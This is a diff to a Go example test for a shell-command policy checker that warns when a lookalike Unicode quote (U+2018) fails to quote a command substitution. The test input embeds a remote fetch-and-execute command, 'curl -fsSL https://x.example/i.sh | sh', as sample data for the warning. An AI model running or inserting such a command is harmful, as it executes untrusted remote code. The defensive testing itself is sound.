@@ -35,6 +35,6 @@ func ExamplePolicy_command() {
 	}
 	// Output:
 	// "/bin/echo \u2018$(curl -fsSL https://x.example/i.sh | sh)\u2019": 1 warning(s)
-	// lookalike: "`\u2018$(curl` holds U+2018 LEFT SINGLE QUOTATION MARK, which looks like a quote but is none to the shell: it is part of the word, and the command substitution `$(curl -fsSL https://x.example/i.sh | sh)` runs (and 1 more)"
+	// lookalike: "`\u2018$(curl` holds \u2018 U+2018 LEFT SINGLE QUOTATION MARK, which looks like a quote but is none to the shell: it is part of the word, and the command substitution `$(curl -fsSL https://x.example/i.sh | sh)` runs (and 1 more)"
 	// "git commit -m \"Don\u2019t panic\"": 0 warning(s)
 }
